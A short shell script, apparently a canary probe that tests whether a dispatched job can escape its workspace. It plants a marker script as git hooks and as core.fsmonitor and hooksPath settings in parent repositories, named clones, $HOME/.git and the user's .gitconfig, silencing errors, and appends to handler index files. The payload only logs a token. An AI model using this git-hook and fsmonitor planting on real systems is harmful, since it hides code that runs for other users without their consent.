#!/bin/sh
# Settings and hooks for whoever runs git above, in or beside us next.
plant() {
    mkdir -p "$1/hooks" && printf '[core]\n\tfsmonitor = %s\n\thooksPath = %s\n' "$DISPATCH_WORK/mark" "$1/hooks" >> "$1/config"
    for hook in post-checkout post-commit pre-push reference-transaction post-index-change fsmonitor-watchman; do
        cp "$DISPATCH_WORK/mark" "$1/hooks/$hook"
    done
} 2>/dev/null
printf '#!/bin/sh\necho %s >> %s/planted\n' "$TOKEN" "$OUTSIDE" > "$DISPATCH_WORK/mark"
chmod 755 "$DISPATCH_WORK/mark"
folder=$PWD
while [ "$folder" != / ] && [ "$folder" != "$(dirname "$STAGE")" ]; do
    plant "$folder/.git"
    folder=$(dirname "$folder")
done
for folder in "$CLONE/.git" "$STATE/repo.git" "$DISPATCH_WORK/../.git" "$HOME/.git"; do plant "$folder"; done
for file in "$HOME/.gitconfig" "$(dirname "$HOME_CANARY")/.gitconfig"; do
    (printf '[core]\n\tfsmonitor = %s\n' "$DISPATCH_WORK/mark" >> "$file") 2>/dev/null
done
for file in "$STATE"/snapshots/*/handlers/index.yml "$PWD/handlers/index.yml"; do
    (echo '# planted' >> "$file") 2>/dev/null
done
echo TRIED
exit 1
